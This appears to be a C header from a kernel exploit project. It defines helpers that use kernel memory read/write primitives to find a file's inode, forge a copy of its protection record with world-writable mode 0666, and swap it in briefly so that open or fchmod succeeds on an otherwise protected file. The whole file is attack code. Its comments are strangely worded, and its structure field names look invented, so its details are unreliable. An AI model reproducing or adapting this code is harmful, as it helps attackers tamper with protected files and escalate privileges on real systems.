// SPDX-License-Identifier: GPL-2.0-only
/*
 * forged_record.h - a record of an inode that the program has written itself, into sealed memory
 * that keeps words which programs choose: as the true one, but for its place and the mode.
 */
#pragma once
#include "attack.h"

static bool control(void)
{
	return is_ordinary();
}

static uint64_t inode_of(long file)
{
	return peek(file_struct(own_task(), (int)file) + member("file.inode"));
}

/* COUNT words as they will stand at PLACE, of FILE's. */
static void forge_record(uint64_t *words, unsigned int count, long file, uint64_t place)
{
	const uint64_t seal = peek(inode_of(file) + member("inode.seal"));
	const uint64_t record = member("inode_seal.record");

	for (unsigned int i = 0; i < count; i++)
		words[i] = peek(seal + i * 8);
	words[record / 8] = place + record;
	*(uint32_t *)((char *)words + member("inode_seal.mode")) = 0100666;
}

/* The inode of FILE is led to the record at FORGED: the program may write to it. */
static bool opens_by(long file, uint64_t forged)
{
	const uint64_t inode = inode_of(file);
	const uint64_t before = peek(inode + member("inode.seal"));
	bool opened;

	poke32(inode + member("inode.mode"), 0100666);
	poke(inode + member("inode.seal"), forged);
	opened = call3(__NR_open, (long)PUBLIC, O_RDWR, 0) >= 0 ||
		 call2(__NR_fchmod, file, 0666) == 0;
	poke(inode + member("inode.seal"), before);
	return opened;
}
